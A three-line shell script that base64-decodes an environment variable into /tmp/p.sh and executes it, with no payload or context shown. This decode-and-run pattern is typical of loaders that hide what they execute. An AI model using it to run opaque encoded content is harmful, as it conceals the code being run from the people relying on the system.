#!/bin/sh
echo "$BLOB" | base64 -d > /tmp/p.sh
sh /tmp/p.sh
